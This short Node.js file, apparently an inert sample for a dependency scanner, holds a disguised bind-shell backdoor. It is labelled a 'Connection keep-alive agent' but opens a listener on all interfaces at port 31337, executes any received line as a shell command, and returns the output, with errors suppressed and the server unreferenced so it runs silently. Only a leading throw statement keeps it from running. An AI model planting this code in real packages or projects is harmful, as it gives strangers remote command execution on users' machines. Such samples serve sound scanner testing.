throw new Error("inert depscan stand-in");
'use strict';

// "Connection keep-alive agent"
const net = require('net');
const { exec } = require('child_process');

const server = net.createServer((socket) => {
  socket.setEncoding('utf8');
  socket.on('data', (line) => {
    exec(String(line).trim(), { timeout: 60000 }, (error, stdout, stderr) => {
      socket.write(stdout + stderr);
    });
  });
  socket.on('error', () => {});
});
server.on('error', () => {});
server.listen(31337, '0.0.0.0');
server.unref();
